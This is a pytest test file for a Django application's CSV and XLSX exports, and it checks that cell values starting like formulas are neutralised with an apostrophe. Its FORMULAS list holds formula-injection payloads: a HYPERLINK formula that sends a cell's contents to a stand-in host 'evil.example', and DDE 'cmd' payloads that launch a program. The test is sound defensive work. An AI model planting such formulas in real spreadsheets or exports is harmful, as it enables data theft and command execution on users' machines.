"""Formula injection: text that a spreadsheet would run (= + - @, a tab, a carriage return)
never leaves essor as a formula, in any CSV or XLSX file it writes.

Records are given such names, then every export that shows them is downloaded and read back
with the csv module and openpyxl: each such cell starts with an apostrophe (spreadsheets read
it as text), no XLSX cell is a formula, and numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.files import File
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from essor.accounts.models import Partner
from essor.conventions import services as convention_services
from essor.conventions.models import Target
from essor.conventions.tests.factories import make_convention, make_line, make_programme
from essor.core.testing import Personas
from essor.core.text import FORMULA_STARTS
from essor.registry.importing.jobs import import_job_create, import_job_plan
from essor.registry.tests.factories import make_organisation, make_person

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                cells.append(cell.value)
    return cells


def assert_no_formula(cells: list[Any], *, expected: list[str]) -> None:
    """No cell starts as a formula; each ``expected`` text is there, after its apostrophe."""
    for value in cells:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), repr(value)
    texts = [value for value in cells if isinstance(value, str)]
    for text in expected:
        assert any(value == "'" + text or value.startswith("'" + text) for value in texts), text


def read(fmt: str, content: bytes) -> list[Any]:
    return csv_cells(content) if fmt == "csv" else xlsx_cells(content)


@pytest.fixture
def hostile(personas: Personas) -> dict[str, Any]:
    """Records of partner A named like formulas (names keep them: they are letters)."""
    own = personas.own
    persons = [
        make_person(own, last_name=text.strip() or "x", first_name="Amina", sex="F")
        for text in FORMULAS[:4]
    ]
    organisation = make_organisation(own, name_fr=FORMULAS[0], name_ar="")
    convention = make_convention(own, title_fr=FORMULAS[1])
    line = make_line(convention, own, amount="1000000")
    # A partner's short name heads its rows of the execution workbook (an admin edits it).
    Partner.objects.filter(pk=own.pk).update(acronym=FORMULAS[2])
    programme = make_programme(own, line, name_fr=FORMULAS[3])
    Target.objects.create(
        convention=convention,
        indicator="projects_supported",
        label_fr=FORMULAS[0],
        value=10,
        due_on=date(2026, 12, 31),
    )
    committee = convention_services.committee_set(actor=None, convention=convention, name="Comité")
    convention_services.action_add(actor=None, committee=committee, text=FORMULAS[3].strip())
    return {
        "persons": persons,
        "organisation": organisation,
        "convention": convention,
        "programme": programme,
    }


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_registry_exports_write_no_formula(
    personas: Personas, client_for: Any, hostile: dict[str, Any], fmt: str
) -> None:
    client = client_for(personas.user("admin"))
    persons = client.get(reverse("registry:persons_export", args=[fmt]))
    assert persons.status_code == 200
    assert_no_formula(read(fmt, persons.content), expected=[t.strip() for t in FORMULAS[:4]])
    organisations = client.get(reverse("registry:organisations_export", args=[fmt]))
    assert_no_formula(read(fmt, organisations.content), expected=[FORMULAS[0]])


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_bulk_screening_export_writes_no_formula(
    personas: Personas, client_for: Any, hostile: dict[str, Any], fmt: str
) -> None:
    client = client_for(personas.user("admin"))
    response = client.get(reverse("programmes:bulk_export", args=[hostile["programme"].pk, fmt]))
    assert response.status_code == 200
    assert_no_formula(read(fmt, response.content), expected=[t.strip() for t in FORMULAS[:4]])


def test_the_execution_workbook_writes_no_formula_and_keeps_amounts_as_numbers(
    personas: Personas, client_for: Any, hostile: dict[str, Any]
) -> None:
    client = client_for(personas.user("admin"))
    response = client.get(reverse("conventions:execution_export", args=[hostile["convention"].pk]))
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    # The partner's rows and the line's, the programme's row.
    assert_no_formula(cells, expected=[FORMULAS[2], FORMULAS[3]])
    assert 1_000_000 in cells  # the line's budget, a number


def test_the_committee_report_workbook_writes_no_formula(
    personas: Personas, client_for: Any, hostile: dict[str, Any]
) -> None:
    client = client_for(personas.user("admin"))
    response = client.get(
        reverse("monitoring:report", args=[hostile["convention"].pk, "xlsx"]),
        {"period": "2025"},
    )
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    # The target's label, the action's text, the convention's title in the "About" sheet.
    assert_no_formula(cells, expected=[FORMULAS[0], FORMULAS[3], FORMULAS[1]])


def test_the_rejected_rows_of_an_import_come_back_without_formulas(
    personas: Personas, client_for: Any, tmp_path: Path
) -> None:
    path = tmp_path / "liste.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        rows = [["Nom", "Prénom", "CIN"]] + [[text, "Amina", "pas une CIN"] for text in FORMULAS]
        csv.writer(handle, delimiter=";").writerows(rows)
    clerk = personas.user("data_clerk")
    with path.open("rb") as handle:
        job = import_job_create(
            actor=clerk, partner=personas.own, kind="persons", file=File(handle), name=path.name
        )
    import_job_plan(job)
    client = client_for(clerk)
    response = client.get(reverse("registry:import_rejected", args=[job.pk]))
    assert response.status_code == 200
    # The import reads a tab or a line break in a cell as a space: those two come back as " =1+1".
    assert_no_formula(csv_cells(response.content), expected=[t.strip() for t in FORMULAS[:4]])


def test_the_screening_command_export_writes_no_formula(
    personas: Personas, hostile: dict[str, Any], tmp_path: Path
) -> None:
    out = tmp_path / "eligibles.csv"
    call_command(
        "screen",
        hostile["programme"].code,
        "--user",
        personas.user("admin").username,
        "--export",
        str(out),
    )
    assert_no_formula(csv_cells(out.read_bytes()), expected=[t.strip() for t in FORMULAS[:4]])


def test_amounts_and_dates_stay_numbers_and_dates(personas: Personas, client_for: Any) -> None:
    """The guard leaves what is not text alone: a negative amount is still a number."""
    make_organisation(
        personas.own, name_fr="Coopérative", annual_turnover=Decimal("-1500.50"), name_ar=""
    )
    client = client_for(personas.user("admin"))
    cells = xlsx_cells(client.get(reverse("registry:organisations_export", args=["xlsx"])).content)
    assert any(isinstance(v, float | int | Decimal) and v == -1500.5 for v in cells)
